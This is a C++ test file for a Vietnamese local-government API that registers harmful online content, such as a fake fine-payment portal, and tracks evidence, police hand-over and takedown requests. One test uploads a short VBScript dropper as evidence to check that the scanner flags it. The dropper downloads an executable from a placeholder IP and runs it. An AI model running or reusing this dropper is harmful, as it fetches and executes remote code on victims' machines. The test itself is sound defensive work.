// The harmful-content register over the API on both engines: a citizen's report of a fake
// portal becomes a case; the case's page is captured from a loopback site (the page, its
// headers, a picture and the list of digests, each checked against the bytes served); a
// screenshot is uploaded; the case is handed to the police and a takedown request followed to
// its removal; the hand-over list downloads as a workbook; malware in evidence opens an A3
// incident; another commune sees none of it and bad input is refused with nothing stored.
#include <unistd.h>

#include "api_fixture.hpp"
#include "files/table_reader.hpp"
#include "support/archives.hpp"
#include "support/web_fleet.hpp"

namespace ungcuu::testing {
namespace {

using namespace std::chrono_literals;

const std::map<std::string, std::string> kRaw = {{"Content-Type", "application/octet-stream"}};

constexpr const char* kFakePortal =
    "<html><head><title>Cổng dịch vụ công xã A</title></head><body><h1>Nộp phạt vi phạm giao "
    "thông trực tuyến</h1><p>Nhập số thẻ ngân hàng và mã OTP để nộp phạt.</p></body></html>";

class HarmfulContentApiTest : public ApiTest {
protected:
    void SetUp() override {
        ApiTest::SetUp();
        if (IsSkipped() || HasFatalFailure()) {
            return;
        }
        fleet_ =
            std::make_unique<WebFleet>(dir_.path() / "fleet", std::chrono::system_clock::now());
        fleet_->SetDefault([](const std::string&) { return FleetSite{.body = kFakePortal}; });
        ASSERT_TRUE(fleet_->Start(4));
        bin::MonitorWiring wiring;
        wiring.options.allow_machine_addresses = true;  // the fake portal is on loopback
        wiring.options.timeout = 5s;
        wiring.camera.timeout = 60s;
        system_->StartMonitor(wiring);
    }

    void TearDown() override {
        if (system_) {
            system_->StopMonitor();
        }
        ApiTest::TearDown();
        if (fleet_) {
            fleet_->Stop();
        }
    }

    std::string FakeUrl() const {
        return fmt::format("http://127.0.0.1:{}/nop-phat", fleet_->http_port());
    }

    std::unique_ptr<WebFleet> fleet_;
};

TEST_P(HarmfulContentApiTest, FromACitizensReportToTakedownWithVerifiedEvidence) {
    HttpClient coordinator = SignedIn("coordinator");
    HttpClient officer = SignedIn("officer");
    HttpClient other = SignedIn("officer.b");
    HttpClient auditor = SignedIn("auditor");

    // A citizen reports the fake portal on the public page.
    HttpClient citizen(port_);
    const auto reported = citizen.Post(
        "/api/v1/public/reports",
        json::serialize(json::object{
            {"name", "Trần Thị Hoa"},
            {"phone", "0905 111 222"},
            {"affected", FakeUrl()},
            {"description", "Trang này giả cổng dịch vụ công của xã, đòi số thẻ ngân hàng."},
            {"unit_id", commune_a_.id.value()}}));
    ASSERT_EQ(reported.status, 202) << reported.body;
    const auto listed = officer.Get("/api/v1/incidents?source=public");
    ASSERT_EQ(listed.status, 200) << listed.body;
    ASSERT_EQ(listed.Json().at("items").as_array().size(), 1U) << listed.body;
    const auto report_id = listed.Json().at("items").at(0).at("id").as_int64();
    const std::string from = "/api/v1/harmful-cases/from-report/" + std::to_string(report_id);

    // Bad input is refused and nothing is stored.
    EXPECT_EQ(officer.Post(from, R"({"platform":"myspace"})").status, 400);
    EXPECT_EQ(officer.Post(from, R"({"category":"fake_portal","extra":1})").status, 400);
    EXPECT_EQ(other.Post(from, R"({"category":"fake_portal"})").status, 404);
    EXPECT_EQ(auditor.Post(from, R"({"category":"fake_portal"})").status, 403);
    EXPECT_EQ(coordinator.Get("/api/v1/harmful-cases").Json().at("total").as_int64(), 0);

    const auto made = officer.Post(from, R"({"platform":"website","category":"fake_portal"})");
    ASSERT_EQ(made.status, 201) << made.body;
    const auto made_json = made.Json();
    const auto& c = made_json.as_object();
    const std::string path = "/api/v1/harmful-cases/" + std::to_string(c.at("id").as_int64());
    EXPECT_EQ(c.at("location").as_string(), FakeUrl());
    EXPECT_EQ(c.at("unit_id").as_int64(), commune_a_.id.value());
    EXPECT_EQ(c.at("source_incident_id").as_int64(), report_id);
    EXPECT_TRUE(std::string(c.at("code").as_string()).starts_with("ND-"));
    EXPECT_NE(std::string(c.at("description").as_string()).find("Trần Thị Hoa"), std::string::npos);
    const auto again = officer.Post(from, R"({"category":"fake_portal"})");
    EXPECT_EQ(again.status, 409) << again.body;
    EXPECT_NE(std::string(again.Json().at("message_vi").as_string()).find(c.at("code").as_string()),
              std::string::npos);
    bool noted = false;
    const auto report = officer.Get("/api/v1/incidents/" + std::to_string(report_id)).Json();
    for (const auto& e : report.at("timeline").as_array()) {
        noted = noted || e.at("kind").as_string() == "harmful_case";
    }
    EXPECT_TRUE(noted);

    // The page is captured as served, with a list of digests; each file's digest is checked
    // against the bytes downloaded and the list names them.
    const auto captured = officer.Post(path + "/capture", "");
    ASSERT_EQ(captured.status, 201) << captured.body;
    std::map<std::string, std::string> files;
    const auto captured_json = captured.Json();
    for (const auto& e : captured_json.at("evidence").as_array()) {
        const std::string name(e.at("name").as_string());
        const auto download =
            officer.Get(path + "/evidence/" + std::to_string(e.at("id").as_int64()));
        ASSERT_EQ(download.status, 200) << name;
        EXPECT_EQ(e.at("sha256").as_string(), Sha256Hex(download.body)) << name;
        EXPECT_EQ(e.at("source_url").as_string(), FakeUrl()) << name;
        EXPECT_EQ(e.at("scan").at("verdict").as_string(), "clean") << name;
        files[name.substr(0, 4)] = download.body;
    }
    ASSERT_TRUE(files.contains("tran")) << captured.body;
    EXPECT_EQ(files["tran"], kFakePortal);
    ASSERT_TRUE(files.contains("phan"));
    EXPECT_NE(files["phan"].find("200"), std::string::npos);
    ASSERT_TRUE(files.contains("bang"));
    const auto& manifest = files["bang"];
    EXPECT_NE(manifest.find(Sha256Hex(kFakePortal)), std::string::npos) << manifest;
    EXPECT_NE(manifest.find(Sha256Hex(files["phan"])), std::string::npos) << manifest;
    EXPECT_NE(manifest.find(FakeUrl()), std::string::npos) << manifest;
    if (access("/usr/bin/chromium", X_OK) == 0) {
        ASSERT_TRUE(files.contains("anh-")) << manifest;
        EXPECT_EQ(files["anh-"].substr(1, 3), "PNG");
        EXPECT_NE(manifest.find(Sha256Hex(files["anh-"])), std::string::npos);
    }

    // An officer's own screenshot; a file that is no evidence is refused.
    // A 1×1 PNG.
    const std::string png(
        "\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00\x0d\x49\x48\x44\x52\x00\x00\x00\x01\x00\x00"
        "\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x0b\x49\x44\x41\x54\x78\x9c\x63"
        "\x60\x00\x02\x00\x00\x05\x00\x01\x7a\x5e\xab\x3f\x00\x00\x00\x00\x49\x45\x4e\x44\xae\x42"
        "\x60\x82",
        68);
    const auto shot = officer.Send("POST", path + "/evidence?name=chup-man-hinh.png", png, kRaw);
    ASSERT_EQ(shot.status, 201) << shot.body;
    const std::string elf(
        "\x7f"
        "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0",
        20);
    EXPECT_EQ(officer.Send("POST", path + "/evidence?name=a.png", elf, kRaw).status, 400);
    EXPECT_EQ(other.Send("POST", path + "/evidence?name=b.png", png, kRaw).status, 404);

    // Handed to the police: the date is needed; then a takedown request followed to removal.
    const auto undated = officer.Send("PUT", path, R"({"state":"handed_over"})");
    EXPECT_EQ(undated.status, 400) << undated.body;
    const std::string handed_at = core::FormatRfc3339(clock_.Now() - 1h);
    const auto handed = officer.Send(
        "PUT", path,
        json::serialize(json::object{{"state", "handed_over"},
                                     {"handed_to", "Công an tỉnh (Phòng An ninh mạng)"},
                                     {"handed_at", handed_at},
                                     {"handover_ref", "125/UBND-VP"}}));
    ASSERT_EQ(handed.status, 200) << handed.body;
    const std::string sent_at = core::FormatRfc3339(clock_.Now() - 30min);
    const json::object request{{"recipient", "Nhà đăng ký tên miền"},
                               {"channel", "Công văn"},
                               {"reference", "126/UBND-VP"},
                               {"sent_at", sent_at}};
    auto bad = request;
    bad["status"] = "deleted";
    EXPECT_EQ(officer.Post(path + "/takedowns", json::serialize(bad)).status, 400);
    bad = request;
    bad["answered_at"] = core::FormatRfc3339(clock_.Now() - 2h);
    EXPECT_EQ(officer.Post(path + "/takedowns", json::serialize(bad)).status, 400)
        << "an answer before the request";
    EXPECT_EQ(other.Post(path + "/takedowns", json::serialize(request)).status, 404);
    const auto asked = officer.Post(path + "/takedowns", json::serialize(request));
    ASSERT_EQ(asked.status, 201) << asked.body;
    const auto takedown = asked.Json().at("takedowns").at(0).at("id").as_int64();
    auto answered = request;
    answered["status"] = "removed";
    answered["answered_at"] = core::FormatRfc3339(clock_.Now());
    const auto removed = officer.Send("PUT", path + "/takedowns/" + std::to_string(takedown),
                                      json::serialize(answered));
    ASSERT_EQ(removed.status, 200) << removed.body;
    EXPECT_EQ(removed.Json().at("takedowns").at(0).at("status").as_string(), "removed");
    ASSERT_EQ(officer.Send("PUT", path, R"({"state":"removed"})").status, 200);

    // The hand-over list as a workbook: the case with its hand-over and request.
    const auto xlsx = coordinator.Get("/api/v1/harmful-cases/export?format=xlsx");
    ASSERT_EQ(xlsx.status, 200) << xlsx.body;
    files::FileTableReader reader;
    const auto rows = reader.Read(xlsx.body);
    ASSERT_TRUE(rows.ok()) << rows.error().message_en;
    std::vector<std::string> row;
    for (const auto& r : *rows) {
        if (r.cells.size() > 1 && r.cells[1] == std::string(c.at("code").as_string())) {
            row = r.cells;
        }
    }
    ASSERT_GE(row.size(), 12U);
    EXPECT_EQ(row[3], FakeUrl());
    EXPECT_EQ(row[8], "Công an tỉnh (Phòng An ninh mạng)");
    EXPECT_NE(row[10].find("Nhà đăng ký tên miền"), std::string::npos);
    EXPECT_NE(row[10].find("Đã gỡ"), std::string::npos);
    EXPECT_EQ(row[11], "Đã gỡ bỏ");
    EXPECT_EQ(coordinator.Get("/api/v1/harmful-cases/export?format=odt").status, 400);

    // Another commune sees nothing of it, not even as a count or in its list.
    EXPECT_EQ(other.Get(path).status, 404);
    EXPECT_EQ(other.Get("/api/v1/harmful-cases").Json().at("total").as_int64(), 0);
    const auto their_list = other.Get("/api/v1/harmful-cases/export?format=xlsx");
    ASSERT_EQ(their_list.status, 200);
    const auto their_rows = reader.Read(their_list.body);
    ASSERT_TRUE(their_rows.ok());
    for (const auto& r : *their_rows) {
        for (const auto& cell : r.cells) {
            EXPECT_EQ(cell.find("nop-phat"), std::string::npos);
        }
    }
    // Search and filters.
    EXPECT_EQ(coordinator.Get("/api/v1/harmful-cases?q=cong%20dich%20vu&state=removed")
                  .Json()
                  .at("total")
                  .as_int64(),
              1);
    EXPECT_EQ(coordinator.Get("/api/v1/harmful-cases?category=fraud").Json().at("total").as_int64(),
              0);
    EXPECT_EQ(coordinator.Get("/api/v1/harmful-cases?from=2026-13-01").status, 400);
}

TEST_P(HarmfulContentApiTest, MalwareInACasesEvidenceOpensAnA3Incident) {
    HttpClient officer = SignedIn("officer");
    const auto made = officer.Post(
        "/api/v1/harmful-cases",
        json::serialize(json::object{{"unit_id", commune_a_.id.value()},
                                     {"location", "Nhóm Zalo \"UBND xã A - Hỗ trợ người dân\""},
                                     {"platform", "zalo"},
                                     {"category", "impersonation"},
                                     {"title", "Nhóm Zalo mạo danh UBND xã gửi tệp cài đặt"},
                                     {"first_seen", core::FormatRfc3339(clock_.Now() - 2h)}}));
    ASSERT_EQ(made.status, 201) << made.body;
    const std::string path =
        "/api/v1/harmful-cases/" + std::to_string(made.Json().at("id").as_int64());
    // Capturing a chat account is not a web page: the officer is told to upload screenshots.
    const auto capture = officer.Post(path + "/capture", "");
    EXPECT_EQ(capture.status, 400) << capture.body;
    const std::string dropper =
        "Set s = CreateObject(\"WScript.Shell\")\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\n"
        "h.Open \"GET\", \"http://203.0.113.9/a.exe\", False\ns.Run \"a.exe\"\n";
    const auto added = officer.Send("POST", path + "/evidence?name=tep-gui-kem.txt", dropper, kRaw);
    ASSERT_EQ(added.status, 201) << added.body;
    const auto details = officer.Get(path).Json();
    EXPECT_EQ(details.at("evidence").at(0).at("scan").at("verdict").as_string(), "infected");
    ASSERT_TRUE(details.at("malware_incident_id").is_int64()) << json::serialize(details);
    const auto incident = officer.Get("/api/v1/incidents/" +
                                      std::to_string(details.at("malware_incident_id").as_int64()));
    ASSERT_EQ(incident.status, 200);
    EXPECT_EQ(incident.Json().at("unit_id").as_int64(), commune_a_.id.value());
    EXPECT_NE(json::serialize(incident.Json().at("scenarios")).find("A3"), std::string::npos);
    // Bad cases are refused.
    EXPECT_EQ(
        officer
            .Post("/api/v1/harmful-cases",
                  json::serialize(json::object{{"unit_id", commune_a_.id.value()},
                                               {"location", "không phải địa chỉ"},
                                               {"platform", "website"},
                                               {"title", "x"},
                                               {"first_seen", core::FormatRfc3339(clock_.Now())}}))
            .status,
        400);
    EXPECT_EQ(
        officer
            .Post("/api/v1/harmful-cases",
                  json::serialize(json::object{{"unit_id", commune_b_.id.value()},
                                               {"location", "https://a.example"},
                                               {"title", "x"},
                                               {"first_seen", core::FormatRfc3339(clock_.Now())}}))
            .status,
        404);
    EXPECT_EQ(officer
                  .Post("/api/v1/harmful-cases",
                        json::serialize(
                            json::object{{"unit_id", commune_a_.id.value()},
                                         {"location", "https://a.example"},
                                         {"title", "x"},
                                         {"first_seen", core::FormatRfc3339(clock_.Now() + 72h)}}))
                  .status,
              400);
}

INSTANTIATE_TEST_SUITE_P(Engines,
                         HarmfulContentApiTest,
                         ::testing::Values(storage::Dialect::kSqlite, storage::Dialect::kPostgres),
                         EngineName);

}  // namespace
}  // namespace ungcuu::testing
